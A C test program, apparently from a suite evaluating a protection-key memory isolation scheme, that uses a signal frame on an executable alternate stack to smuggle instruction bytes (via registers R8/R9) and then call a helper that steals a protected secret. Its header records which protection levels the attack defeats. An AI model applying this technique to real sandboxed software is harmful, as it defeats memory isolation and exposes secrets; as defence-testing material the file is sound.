/* none: succeeds: secret; keys: succeeds: secret; full: ends "killed: WRPKRU" */
#define ATTACK_OPENS
#include "attack.h"

/* The same by a signal's frame: the registers in it are the code. */
#define STACK_PAGES 8

static char *code;

static void find(int signal, siginfo_t *info, void *context)
{
	(void)signal, (void)info;
	code = (char *)&((ucontext_t *)context)->uc_mcontext.gregs[REG_R8];
}

int main(void)
{
	char *p = map(STACK_PAGES, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1);
	stack_t stack = { .ss_sp = p, .ss_size = STACK_PAGES * PAGE };
	struct sigaction action = { .sa_sigaction = find, .sa_flags = SA_SIGINFO | SA_ONSTACK };
	uint64_t words[2] = { 0 };
	long pid;

	memset(p, 0xc3, STACK_PAGES * PAGE);
	sigaltstack(&stack, NULL);
	sigaction(SIGUSR1, &action, NULL);
	raise(SIGUSR1);
	memset(code, 0xc3, 2 * sizeof *words);
	((void (*)(void))code)();
	memcpy(words, open_all, OPEN_ALL_SIZE);
	pid = getpid();
	{
		register uint64_t r8 __asm__("r8") = words[0], r9 __asm__("r9") = words[1];

		__asm__ volatile("syscall" : : "a"(SYS_kill), "D"(pid), "S"(SIGUSR1), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
	}
	steal_after(code, 0);
	return 0;
}
